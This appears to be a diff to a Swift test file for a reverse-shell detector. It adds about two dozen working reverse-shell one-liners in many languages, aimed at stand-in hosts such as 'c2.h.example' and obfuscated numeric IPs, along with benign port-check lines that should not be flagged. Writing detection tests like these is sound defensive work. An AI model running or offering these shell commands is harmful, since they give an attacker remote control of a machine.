@@ -35,6 +35,96 @@ private func shells(_ text: String) -> [TextDetection] { text.withView { Reverse
     #expect(found.first?.port == 4444)
   }
 
+  /// Hosts as numbers, with the dot that ends a name, in the environment, among other named arguments.
+  @Test(arguments: [
+    (
+      "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"3405803783\",4444));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
+      "3405803783"
+    ),
+    ("php -r '$s=fsockopen(\"0xCB007107\",4444);exec(\"sh <&3 >&3 2>&3\");'", "0xCB007107"),
+    (
+      "ruby -rsocket -e 'f=TCPSocket.open(\"0313.0.0161.7\",4444).to_i;exec sprintf(\"sh -i <&%d >&%d\",f,f)'",
+      "0313.0.0161.7"
+    ),
+    ("c,_:=net.Dial(\"tcp\",\"127.1:4444\");p:=exec.Command(\"/bin/sh\");p.Stdin=c;p.Run()", "127.1"),
+    (
+      "c,_:=tls.Dial(\"tcp\",\"c2.h.example:4444\",&cfg);p:=exec.Command(\"/bin/sh\");p.Stdin=c;p.Run()", "c2.h.example"
+    ),
+    (
+      "node -e 'require(\"child_process\").spawn(\"sh\",{stdio:[s=require(\"net\").connect(4444,\"c2.h.example.\"),s,s]})'",
+      "c2.h.example."
+    ),
+    (
+      "lua -e 'require(\"socket\");t=socket.tcp();t:connect(\"kali\",\"4444\");os.execute(\"/bin/sh -i <&3 >&3\")'",
+      "kali"
+    ),
+    (
+      "lua -e 'local s=require(\"socket\").connect(\"c2.h.example\",4444);while 1 do s:send(io.popen(s:receive()):read(\"*a\")) end'",
+      "c2.h.example"
+    ),
+    (
+      "perl -MIO::Socket -e '$c=IO::Socket::INET->new(PeerAddr=>\"c2.h.example\",PeerPort=>4444,Proto=>\"tcp\");open STDIN,\"<&\",$c;exec \"sh\"'",
+      "c2.h.example"
+    ),
+    (
+      "R -e 's<-socketConnection(host=\"c2.h.example\",port=4444,blocking=TRUE,open=\"r+\");while(TRUE){writeLines(readLines(pipe(readLines(s,1))),s)}'",
+      "c2.h.example"
+    ),
+    (
+      "RHOST=kali;RPORT=4444;R -e 's<-socketConnection(host=Sys.getenv(\"RHOST\"),port=as.integer(Sys.getenv(\"RPORT\")),blocking=TRUE);while(TRUE){writeLines(system(readLines(s,1),intern=TRUE),s)}'",
+      "kali"
+    ),
+    (
+      "RHOST=kali;RPORT=4444;node -e 'sh=child_process.spawn(\"/bin/sh\");net.connect(process.env.RPORT,process.env.RHOST,function(){this.pipe(sh.stdin);sh.stdout.pipe(this)})'",
+      "kali"
+    ),
+    (
+      "require 'socket'\nrequire 'open3'\nRHOST = \"c2.h.example\"\nPORT = \"4444\"\ns = TCPSocket.new \"#{RHOST}\", \"#{PORT}\"\nwhile l = s.gets\n  Open3.popen2e(\"#{l}\") { |i, o| IO.copy_stream(o, s) }\nend",
+      "c2.h.example"
+    ),
+    (
+      "ruby -rsocket -e 's=UDPSocket.new;s.connect(\"c2.h.example\",4444);while c=s.recv(99);s.send(`#{c}`,0);end'",
+      "c2.h.example"
+    ),
+    (
+      "set s [socket -async c2.h.example 4444];while 1 {gets $s c;set e \"exec $c\";catch {set r [eval $e]};puts $s $r}",
+      "c2.h.example"
+    ),
+    (
+      "set h c2.h.example; set s [socket $h 4444];while 1 {gets $s c;set e \"exec $c\";catch {set r [eval $e]};puts $s $r}",
+      "c2.h.example"
+    ),
+    (
+      "erl -noshell -eval '{ok,S}=gen_tcp:connect(\"c2.h.example\",4444,[]),(fun F()->{ok,C}=gen_tcp:recv(S,0),gen_tcp:send(S,os:cmd(C)),F() end)()'",
+      "c2.h.example"
+    ),
+    (
+      "class S { function run() { $s = @fsockopen($this->addr, $this->port, $e, $t, 30); proc_open('/bin/sh', $d, $p); } }\n$x = new S('c2.h.example', 4444);",
+      "c2.h.example"
+    ),
+    ("sh </tmp/p | openssl s_client -quiet -connect c2.h.example -port 4444", "c2.h.example"),
+    ("zsh -c 'zmodload zsh/net/tcp && ztcp -d 9 c2.h.example 4444 && zsh 1>&9 2>&9 0>&9'", "c2.h.example"),
+    ("socat dtls:c2.h.example:4444,verify=0 exec:sh", "c2.h.example"),
+    ("sh -c 'socat TCP:c2.h.example:4444 EXEC:'\\''bash -li'\\'',pty,stderr,setsid'", "c2.h.example"),
+    ("nc ::1 4444 -e bash", "::1"),
+  ])
+  func readsTheHost(text: String, host: String) {
+    let found = shells(text).first { $0.kind == .reverseShell }
+    #expect(found?.host == host)
+    #expect(found?.port == 4444)
+  }
+
+  /// A port check with the same words.
+  @Test(arguments: [
+    "require 'socket'\nrequire 'open3'\ns = TCPSocket.new \"#{HOST}\", \"#{PORT}\"\ns.puts 'x'\no, e = Open3.capture2(\"uptime\")",
+    "ruby -rsocket -e 's=UDPSocket.new;s.send(\"a:1|c\",0,\"10.0.0.5\",8125); system(\"date\")'",
+    "erl -noshell -eval '{ok,S}=gen_tcp:connect(\"10.0.0.5\",5672,[]),gen_tcp:close(S),io:format(os:cmd(\"date\"))'",
+    "{\"cmd\":\"gawk 'BEGIN{s=\\\"/inet/tcp/0/www.h.example/80\\\"; print \\\"GET /\\\" |& s; while((s|&getline l)>0) print l}'\"}",
+    "gawk 'BEGIN{s=\"/inet/tcp/0/www.h.example/80\"; print \"GET /\" |& s; while((s|&getline l)>0) print l}'; kubectl exec -it pod -- /bin/sh",
+    "socat STDIO TCP:10.0.0.5:5000 | tee log", "set h [socket 10.0.0.5 80]; puts $h x; gets $h l; puts $l",
+  ])
+  func aCheckHasNoShell(text: String) { #expect(shells(text).isEmpty) }
+
   @Test(arguments: [
     ("[2001:db8::5]:4444", "2001:db8::5", 4444), ("::ffff:192.0.2.7:4444", "::ffff:192.0.2.7", 4444),
     ("[fe80::1%eth0]:4444", "fe80::1%eth0", 4444), ("tcp://192.0.2.7:4444", "192.0.2.7", 4444),
